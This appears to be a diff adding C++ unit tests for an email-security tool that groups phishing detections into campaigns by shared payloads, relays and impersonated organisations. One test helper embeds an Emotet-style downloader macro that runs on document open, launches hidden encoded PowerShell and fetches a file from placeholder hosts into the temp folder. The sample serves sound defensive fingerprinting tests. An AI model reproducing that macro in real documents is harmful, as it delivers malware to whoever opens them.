@@ -1,0 +1,227 @@
+// SPDX-License-Identifier: Apache-2.0
+// tests/unit/campaign/cluster_test.cpp - grouping detections into campaigns
+//
+// Starts from the demo's real detections; variants are copies with one
+// property changed (the same payload from another account, the same person
+// a month later, ...), as a campaign's next wave would look.
+#include "campaign/cluster.hpp"
+#include "demo_detections.hpp"
+
+#include <fmt/format.h>
+#include <gtest/gtest.h>
+
+using namespace replyguard;
+using campaign::detection;
+
+namespace {
+
+campaign::cluster_options opts() { return {14, {"sakura-shoji.example"}}; }
+
+bool contains(const std::vector<std::string>& v, std::string_view s) {
+    return std::find(v.begin(), v.end(), s) != v.end();
+}
+
+detection variant(const detection& base, std::string key, std::int64_t shift_days) {
+    detection d = base;
+    d.key = std::move(key);
+    d.date += shift_days * 86400;
+    d.time += shift_days * 86400;
+    return d;
+}
+
+}  // namespace
+
+TEST(Cluster, DemoHasThreeCampaigns) {
+    // 02 and 03 impersonate two partners; 06 (the ZIP) and 07 (its password) come
+    // from a lookalike of our own domain and are one campaign against us.
+    auto cs = campaign::cluster(rg_test::demo().detections, opts());
+    ASSERT_EQ(cs.size(), 3u);
+    std::size_t own = 0;
+    for (const auto& c : cs) {
+        EXPECT_EQ(c.verdict, "malicious");
+        EXPECT_EQ(c.id.size(), 12u);
+        if (c.own_org_impersonated) {
+            ++own;
+            EXPECT_EQ(c.count, 2u);
+            EXPECT_TRUE(contains(c.senders, "keiri@sakura-shoji-co.example"));
+        } else {
+            EXPECT_EQ(c.count, 1u);
+        }
+    }
+    EXPECT_EQ(own, 1u);
+    EXPECT_GE(cs[0].last_seen, cs[1].last_seen);  // newest first
+    EXPECT_GE(cs[1].last_seen, cs[2].last_seen);
+}
+
+TEST(Cluster, CampaignFacts) {
+    auto cs = campaign::cluster({rg_test::by_source("02-")}, opts());
+    ASSERT_EQ(cs.size(), 1u);
+    const auto& c = cs[0];
+    ASSERT_EQ(c.impersonated.size(), 1u);
+    EXPECT_EQ(c.impersonated[0].address, "tanaka@fuji-kogyo.example");
+    EXPECT_EQ(c.organisations, std::vector<std::string>{"fuji-kogyo.example"});
+    EXPECT_EQ(c.senders, std::vector<std::string>{"info@kagoshima-dental.example"});
+    EXPECT_EQ(c.relays, std::vector<std::string>{"192.0.2.22 (mail.kagoshima-dental.example)"});
+    EXPECT_TRUE(contains(c.targets, "sato@sakura-shoji.example"));
+    EXPECT_TRUE(contains(c.payload_kinds, "password_zip"));
+    EXPECT_TRUE(contains(c.payload_kinds, "shortcut"));
+    EXPECT_EQ(c.subjects, std::vector<std::string>{"RE: 見積書送付のお願い (4月分)"});
+    EXPECT_TRUE(contains(c.groups, "hijack"));
+    EXPECT_TRUE(contains(c.groups, "payload"));
+}
+
+TEST(Cluster, PayloadKinds) {
+    auto k3 = campaign::payload_kinds_of(rg_test::by_source("03-"));
+    EXPECT_EQ(k3, std::vector<std::string>{"download_link"});
+    auto k6 = campaign::payload_kinds_of(rg_test::by_source("06-"));
+    EXPECT_TRUE(contains(k6, "password_zip"));
+    EXPECT_TRUE(contains(k6, "script"));
+}
+
+TEST(Cluster, SamePayloadFromAnotherAccountJoins) {
+    detection a = rg_test::by_source("02-");
+    detection b = variant(a, "wave2@x", 3);
+    b.from_address = "soumu@other-victim.example";
+    b.from_domain = "other-victim.example";
+    b.relay_ip = "198.51.100.9";
+    b.impersonated = {{"山本 美咲", "yamamoto@fuji-kogyo.example", "fuji-kogyo.example"}};
+    auto cs = campaign::cluster({a, b}, opts());
+    ASSERT_EQ(cs.size(), 1u);  // linked by the ZIP's and the shortcut's hashes
+    EXPECT_EQ(cs[0].count, 2u);
+    EXPECT_EQ(cs[0].impersonated.size(), 2u);
+    EXPECT_EQ(cs[0].senders.size(), 2u);
+    EXPECT_EQ(cs[0].organisations, std::vector<std::string>{"fuji-kogyo.example"});
+
+    // Only the inner member's hash shared (the ZIP re-packed): still one campaign.
+    b.attachments[0].sha256 = std::string(64, 'e');
+    EXPECT_EQ(campaign::cluster({a, b}, opts()).size(), 1u);
+    // Nothing shared: two campaigns.
+    b.attachments[0].member_sha256 = {std::string(64, 'f')};
+    EXPECT_EQ(campaign::cluster({a, b}, opts()).size(), 2u);
+}
+
+TEST(Cluster, TimeWindowSeparatesWaves) {
+    detection a = rg_test::by_source("03-");
+    detection later = variant(a, "later@x", 30);
+    EXPECT_EQ(campaign::cluster({a, later}, opts()).size(), 2u);
+    auto wide = opts();
+    wide.window_days = 60;
+    EXPECT_EQ(campaign::cluster({a, later}, wide).size(), 1u);
+    // Transitive: a chain of waves 10 days apart is one campaign, though its ends are 20 days apart.
+    detection mid = variant(a, "mid@x", 10);
+    detection b = variant(a, "b@x", 20);
+    EXPECT_EQ(campaign::cluster({a, mid, b}, opts()).size(), 1u);
+}
+
+TEST(Cluster, SharedRelayLinks) {
+    detection a = rg_test::by_source("03-");
+    detection b = rg_test::by_source("06-");
+    EXPECT_EQ(campaign::cluster({a, b}, opts()).size(), 2u);
+    b.relay_ip = a.relay_ip;
+    EXPECT_EQ(campaign::cluster({a, b}, opts()).size(), 1u);
+}
+
+TEST(Cluster, CommonLinkHostNeverLinks) {
+    // A host in most detections (a signature link) is boilerplate, not a payload family.
+    std::vector<detection> ds;
+    for (int i = 0; i < 4; ++i) {
+        detection d = rg_test::by_source("06-");
+        d.impersonated.clear();  // only the link host may join them
+        d.key = "k" + std::to_string(i);
+        d.attachments.clear();
+        d.relay_ip = "203.0.113." + std::to_string(i);
+        d.url_hosts = {"www.common-signature.example"};
+        ds.push_back(d);
+    }
+    EXPECT_EQ(campaign::cluster(ds, opts()).size(), 4u);
+}
+
+TEST(Cluster, OwnOrganisationImpersonated) {
+    detection d = rg_test::by_source("03-");
+    d.impersonated = {{"佐藤 花子", "sato@sakura-shoji.example", "sakura-shoji.example"}};
+    auto cs = campaign::cluster({d}, opts());
+    ASSERT_EQ(cs.size(), 1u);
+    EXPECT_TRUE(cs[0].own_org_impersonated);
+    auto other = opts();
+    other.org_domains = {"mail.fuji-kogyo.example"};  // compared by registrable domain
+    EXPECT_FALSE(campaign::cluster({d}, other)[0].own_org_impersonated);
+    // Free-mail is never an organisation.
+    d.impersonated = {{"Sato", "sato.hanako@gmail.com", "gmail.com"}};
+    auto fm = campaign::cluster({d}, {14, {"gmail.com"}});
+    EXPECT_TRUE(fm[0].organisations.empty());
+    EXPECT_FALSE(fm[0].own_org_impersonated);
+}
+
+TEST(Cluster, IdIsStableAndOrderIndependent) {
+    auto ds = rg_test::demo().detections;
+    auto a = campaign::cluster(ds, opts());
+    std::reverse(ds.begin(), ds.end());
+    auto b = campaign::cluster(ds, opts());
+    ASSERT_EQ(a.size(), b.size());
+    for (std::size_t i = 0; i < a.size(); ++i) EXPECT_EQ(a[i].id, b[i].id);
+}
+
+TEST(Cluster, Empty) { EXPECT_TRUE(campaign::cluster({}, opts()).empty()); }
+
+namespace {
+
+// An Emotet-style downloader macro (2019 shape); the variants rename variables
+// and swap the URL, as the waves of one campaign did.
+std::string macro_source(std::string_view var, std::string_view url) {
+    return fmt::format(
+        "Attribute VB_Name = \"ThisDocument\"\n"
+        "' generated\n"
+        "Sub AutoOpen()\n"
+        "    Dim {0} As Object\n"
+        "    Set {0} = CreateObject(\"WScript.Shell\")\n"
+        "    Dim cmdLine As String\n"
+        "    cmdLine = \"powershell -w hidden -enc \" & Chr(34) & \"JABzAD0AJwBoAHQAdABwADoA\" & Chr(34)\n"
+        "    cmdLine = Replace(cmdLine, \"JAB\", \"JAB\")\n"
+        "    Dim target As String\n"
+        "    target = Environ(\"TEMP\") & \"\\\\update.exe\"\n"
+        "    Call Download(\"{1}\", target)\n"
+        "    {0}.Run cmdLine, 0, False\n"
+        "End Sub\n"
+        "Private Sub Download(ByVal src As String, ByVal dst As String)\n"
+        "    Dim http As Object: Set http = CreateObject(\"MSXML2.XMLHTTP\")\n"
+        "    http.Open \"GET\", src, False\n"
+        "    http.Send\n"
+        "End Sub\n",
+        var, url);
+}
+
+}  // namespace
+
+TEST(Cluster, MacroFingerprintNormalises) {
+    auto a = campaign::macro_fingerprint("Sub  AutoOpen()\r\n\tDIM x AS Object\n' comment line here\nAttribute VB_Name = \"M\"\nx\n");
+    auto b = campaign::macro_fingerprint("sub autoopen()\n  dim x as object\n");
+    EXPECT_EQ(a, b);
+    EXPECT_EQ(a.size(), 2u);  // comment, attribute and the short line are skipped
+    EXPECT_TRUE(std::is_sorted(a.begin(), a.end()));
+    EXPECT_TRUE(campaign::macro_fingerprint("").empty());
+}
+
+TEST(Cluster, SimilarMacrosLinkDifferentMacrosDoNot) {
+    auto fa = campaign::macro_fingerprint(macro_source("wsh", "http://a.example/x"));
+    auto fb = campaign::macro_fingerprint(macro_source("objShell", "http://b.example/y"));
+    auto fc = campaign::macro_fingerprint(
+        "Sub Workbook_Open()\n    MsgBox \"Quarterly figures updated\"\n    Range(\"A1\").Value = Date\n"
+        "    Sheets(\"Summary\").Activate\n    ActiveWorkbook.Save\n    Application.StatusBar = False\nEnd Sub\n");
+    double ab = campaign::macro_similarity(fa, fb);
+    EXPECT_GE(ab, 0.5) << ab;  // one variable renamed on 4 of 15 lines
+    EXPECT_LT(ab, 1.0);
+    EXPECT_LT(campaign::macro_similarity(fa, fc), 0.2);
+
+    detection a = rg_test::by_source("06-");
+    a.relay_ip.clear();
+    a.impersonated.clear();  // only the macro may join them
+    a.attachments[0].macro_fp = fa;
+    detection b = variant(a, "macro-b@x", 2);
+    b.attachments[0].sha256 = std::string(64, '1');
+    b.attachments[0].member_sha256.clear();
+    b.attachments[0].macro_fp = fb;
+    a.attachments[0].member_sha256.clear();
+    EXPECT_EQ(campaign::cluster({a, b}, opts()).size(), 1u);
+    b.attachments[0].macro_fp = fc;
+    EXPECT_EQ(campaign::cluster({a, b}, opts()).size(), 2u);
+}
